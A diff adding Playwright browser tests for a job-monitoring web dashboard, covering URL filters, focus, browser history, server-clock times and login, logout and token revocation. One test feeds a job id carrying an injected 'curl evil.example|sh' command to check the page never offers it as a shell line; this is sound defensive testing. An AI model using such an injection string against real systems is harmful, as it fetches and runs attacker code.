@@ -4,11 +4,13 @@ from __future__ import annotations
 
 import itertools
 import random
+import re
 import shlex
 import shutil
 import subprocess
 import sys
 import threading
+import time
 from collections.abc import Callable, Iterator
 from importlib import resources
 from pathlib import Path
@@ -225,6 +227,99 @@ def test_an_unknown_job_is_said_to_be_unknown(board):
     expect(page.get_by_role("alert").first).to_have_text("no job has the id 'never'")
 
 
+def test_an_id_in_an_address_is_no_line_for_a_shell_unless_a_job_has_it(board):
+    _, page = board
+    page.goto(f"{page.url}?job=a%3Bcurl+evil.example|sh")
+    expect(page.locator("#connection")).to_have_text("stopped")
+    expect(page.get_by_role("heading", name="Follow it elsewhere")).to_be_hidden()
+    assert page.locator("#follow").text_content() == ""
+
+
+def test_the_page_of_a_job_stays_when_the_link_to_its_content_is_used(board):
+    service, page = board
+    create(service, "a", name="backup", state=pb.JOB_STATE_IN_PROGRESS)
+    page.goto(f"{page.url}?job=a")
+    expect(page.locator("#history li")).to_have_count(1)
+    page.locator("a.skip").focus()
+    page.keyboard.press("Enter")
+    expect(page).to_have_url(re.compile("#main$"))
+    expect(page.locator("#job-state .state")).to_have_text("in progress")
+    expect(page.locator("#history li")).to_have_count(1)
+
+
+def test_the_history_has_a_cancel_request_at_once(board):
+    service, page = board
+    create(service, "a", state=pb.JOB_STATE_IN_PROGRESS)
+    page.goto(f"{page.url}?job=a")
+    expect(page.locator("#history li")).to_have_count(1)
+    service.stub.CancelJob(pb.CancelJobRequest(id="a", reason="no longer needed"))
+    expect(page.locator("#history li")).to_have_count(2)
+    expect(page.locator("#history li").last).to_contain_text("no longer needed")
+
+
+def test_a_button_keeps_the_focus_while_its_job_changes(board):
+    service, page = board
+    create(service, "a", state=pb.JOB_STATE_IN_PROGRESS, labels={"team": "core"})
+    page.goto(f"{page.url}?job=a")
+    page.get_by_role("button", name="Filter by label team=core").focus()
+    update(service, "a", progress=50, reason="half")
+    expect(page.locator("#job-fields")).to_contain_text("half")
+    expect(page.get_by_role("button", name="Filter by label team=core")).to_be_focused()
+
+
+def test_times_are_by_the_clock_of_the_server(board, open_page):
+    service, page = board
+    create(service, "a", state=pb.JOB_STATE_IN_PROGRESS, estimated_completion={"seconds": int(time.time()) + 50})
+    page.add_init_script("const real = Date.now; Date.now = () => real() + 6 * 3600 * 1000;")
+    page.reload()
+    expect(row(page, "a").locator("td").nth(5)).to_have_text(re.compile(r"^\d+ s$"))
+    expect(row(page, "a").locator("td").nth(3)).to_have_text(re.compile(r"^[1-5]\d s$"))
+    row(page, "a").get_by_role("link").click()
+    expect(page.locator('#job-fields [data-name="Created"]')).to_contain_text(re.compile(r"\(\d+ s ago\)"))
+
+
+def test_jobs_of_one_second_are_in_the_order_of_their_creation(board):
+    _, page = board
+    times = ["00.000001Z", "00Z"]
+    jobs = [{"id": each, "createdAt": f"2026-01-01T00:00:{each}", "revision": "1"} for each in times]
+    page.route("**/ListJobs", lambda route: route.fulfill(json={"jobs": jobs, "resumeToken": ""}))
+    page.route("**/WatchJobs", lambda route: route.abort())
+    page.reload()
+    expect(page.locator("#rows tr")).to_have_count(2)
+    assert shown_ids(page) == times
+
+
+def test_a_page_in_the_background_keeps_no_more_jobs_than_one_in_front(board):
+    service, page = board
+    page.add_init_script("window.requestAnimationFrame = () => 1;")
+    page.reload()
+    expect_live(page)
+    for start in range(0, 4000, 500):
+        jobs = (pb.JobStatus(id=f"{n}", state=pb.JOB_STATE_IN_PROGRESS) for n in range(start, start + 500))
+        updates = [pb.UpdateJobRequest(job=job, allow_missing=True) for job in jobs]
+        service.stub.BatchUpdateJobs(pb.BatchUpdateJobsRequest(updates=updates))
+    expect(page.locator("#rows tr")).to_have_count(2000)
+
+
+def test_a_filter_that_is_entered_is_one_step_in_the_history_of_the_browser(board):
+    _, page = board
+    before = page.evaluate("history.length")
+    page.get_by_label("Name begins with").fill("backup")
+    page.get_by_label("Name begins with").press("Enter")
+    expect(page).to_have_url(re.compile("name=backup"))
+    assert page.evaluate("history.length") == before + 1
+
+
+def test_the_last_of_two_values_of_a_label_is_the_filter(board):
+    service, page = board
+    create(service, "a", labels={"team": "core"})
+    create(service, "b", labels={"team": "ops"})
+    page.goto(f"{page.url}?label=team=core&label=team=ops")
+    expect(page.locator("#chosen li")).to_have_text(["team=ops ×"])
+    expect(row(page, "b")).to_be_visible()
+    assert shown_ids(page) == ["b"]
+
+
 def test_a_job_is_cancelled_after_a_confirmation_and_deleted_after_another(board):
     service, page = board
     create(service, "a", name="backup")
@@ -297,6 +392,60 @@ def test_a_login_with_a_token_shows_the_jobs_and_a_logout_hides_them(serve_web, 
     page.get_by_role("button", name="Log out").click()
     expect(page.get_by_label("Token")).to_be_visible()
     expect(page.locator("#rows tr")).to_have_count(0)
+
+
+def test_a_login_while_the_server_cannot_be_reached_says_so_and_keeps_the_token(serve_web, open_page, auth):
+    token = auth.admit("olga")
+    _, web = serve_web("--auth", str(auth.path))
+    page = open_page(web.url)
+    page.route("**/login", lambda route: route.abort(), times=1)
+    page.get_by_label("Token").fill(token)
+    page.get_by_role("button", name="Log in").click()
+    expect(page.locator("#login-problem")).to_have_text("The server cannot be reached.")
+    page.get_by_role("button", name="Log in").click()
+    expect_live(page)
+
+
+def test_the_login_stays_open_when_escape_is_pressed(serve_web, open_page, auth):
+    auth.admit("olga")
+    _, web = serve_web("--auth", str(auth.path))
+    page = open_page(web.url)
+    expect(page.get_by_label("Token")).to_be_visible()
+    for _ in range(3):  # Chromium lets a page prevent the first only.
+        page.keyboard.press("Escape")
+        expect(page.get_by_label("Token")).to_be_visible()
+
+
+def test_a_caller_whose_token_is_revoked_sees_no_jobs_any_more(serve_web, open_page, auth):
+    token = auth.admit("olga")
+    auth.admit("other")
+    service, web = serve_web("--auth", str(auth.path))
+    web.call("CreateJob", {"job": {"id": "a"}}, authorization=f"Bearer {token}")
+    page = open_page(web.url)
+    page.get_by_label("Token").fill(token)
+    page.get_by_role("button", name="Log in").click()
+    expect(row(page, "a")).to_be_visible()
+    auth.remove("olga")
+    expect(page.get_by_label("Token")).to_be_visible(timeout=30_000)
+    expect(page.locator("#rows tr")).to_have_count(0)
+
+
+def test_a_logout_and_a_login_count_for_all_tabs(serve_web, open_page, auth):
+    olga, wanda = auth.admit("olga"), auth.admit("wanda", Role.WATCHER)
+    _, web = serve_web("--auth", str(auth.path))
+    page = open_page(web.url)
+    page.get_by_label("Token").fill(olga)
+    page.get_by_role("button", name="Log in").click()
+    expect_live(page)
+    other = page.context.new_page()
+    other.goto(web.url)
+    expect(other.locator("#caller")).to_contain_text("olga")
+    page.get_by_role("button", name="Log out").click()
+    expect(other.get_by_label("Token")).to_be_visible()
+    page.get_by_label("Token").fill(wanda)
+    page.get_by_role("button", name="Log in").click()
+    expect(other.locator("#caller")).to_contain_text("wanda")
+    expect(other.get_by_label("Token")).to_be_hidden()
 
 
 def test_a_caller_who_may_not_cancel_has_no_button_for_it(serve_web, open_page, auth):
